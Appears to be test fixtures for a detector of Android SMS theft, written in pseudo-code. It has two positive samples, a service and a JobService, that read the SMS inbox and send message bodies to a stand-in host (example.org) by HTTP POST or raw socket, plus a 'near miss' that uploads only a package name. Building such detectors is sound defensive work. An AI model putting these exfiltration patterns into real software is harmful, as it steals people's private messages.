permissions("READ_SMS", "INTERNET")

@service
class Sync(Service):
    def onStartCommand(self, intent, flags, number):
        Thread(Reader(self)).start()
        return 1

class Reader(Runnable):
    context: Context
    def __init__(self, context: Context):
        self.context = context
    def run(self):
        place = Uri.parse("content://sms/inbox")
        rows = self.context.getContentResolver().query(place, None, None, None, None)
        out = StringBuilder()
        while rows.moveToNext():
            out.append(rows.getString(2))
        self.send(out.toString())
    def send(self, text: String):
        connection = cast(HttpURLConnection, URL("https://example.org/in").openConnection())
        connection.setRequestMethod("POST")
        DataOutputStream(connection.getOutputStream()).writeBytes(text)

# near miss: counts the messages for its own statistics and uploads nothing of them
class Reader(Runnable):
    context: Context
    def __init__(self, context: Context):
        self.context = context
    def run(self):
        place = Uri.parse("content://sms/inbox")
        rows = self.context.getContentResolver().query(place, None, None, None, None)
        count = 0
        while rows.moveToNext():
            Toast.makeText(self.context, rows.getString(2), 1).show()
            count = count + 1
        self.send(StringBuilder().append(count).toString())
    def send(self, text: String):
        connection = cast(HttpURLConnection, URL("https://example.org/in").openConnection())
        connection.setRequestMethod("POST")
        DataOutputStream(connection.getOutputStream()).writeBytes(self.context.getPackageName())

# also: by the system's own name of the store, in a job
@service
class Sync(JobService):
    def onStartJob(self, parameters):
        rows = self.getContentResolver().query(Telephony_Sms.CONTENT_URI, None, None, None, None)
        found = HashMap()
        while rows.moveToNext():
            found.put(rows.getString(0), rows.getString(2))
        self.send(found.toString())
        return True
    def send(self, text: String):
        out = Socket("example.org", 4000).getOutputStream()
        out.write(text.getBytes())
